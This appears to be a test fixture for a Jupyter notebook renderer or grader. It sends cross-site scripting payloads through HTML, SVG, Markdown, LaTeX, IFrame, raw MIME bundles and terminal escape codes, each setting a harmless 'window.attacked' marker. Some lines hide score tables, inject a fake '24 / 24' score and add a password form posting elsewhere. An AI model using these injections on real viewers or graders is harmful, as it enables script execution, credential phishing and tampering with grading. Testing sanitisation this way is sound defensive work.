# tries: scripts in HTML, SVG, JavaScript, Markdown, LaTeX and widget outputs
# base: birch
# may score: 22
# %% first
from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display

display(HTML("<script>window.attacked=1</script><img src=x onerror='window.attacked=1'>"))
display(HTML("<style>.score,.points,table{display:none!important}</style><base href='//example.invalid/'>"))
display(
    HTML(
        "</div></div></body><h1 onclick='window.attacked=1'>24 / 24</h1><form action='//example.invalid'><input name=password>"
    )
)
display(
    SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='window.attacked=1'><script>window.attacked=1</script></svg>")
)
display(Javascript("window.attacked=1"))
display(
    Markdown(
        '[click](javascript:window.attacked=1) <script>window.attacked=1</script> ![x](x"onerror="window.attacked=1)'
    )
)
display(Latex("$\\href{javascript:window.attacked=1}{x}$ $\\unicode{<script>window.attacked=1</script>}$"))
display(IFrame("javascript:window.attacked=1", 10, 10))
display(
    {
        "application/vnd.jupyter.widget-view+json": {"model_id": "<script>window.attacked=1</script>"},
        "application/javascript": "window.attacked=1",
        "text/plain": "<script>window.attacked=1</script>",
        "image/png": '"><script>window.attacked=1</script>',
        "image/jpeg": "x' onerror='window.attacked=1",
        'text/html; x="><script>window.attacked=1</script>': "x",
    },
    raw=True,
)
print(
    "\x1b]8;;javascript:window.attacked=1\x07click\x1b]8;;\x07 \x1b[31m<script>window.attacked=1</script>\x1b[2J\x1b[1;1H"
)
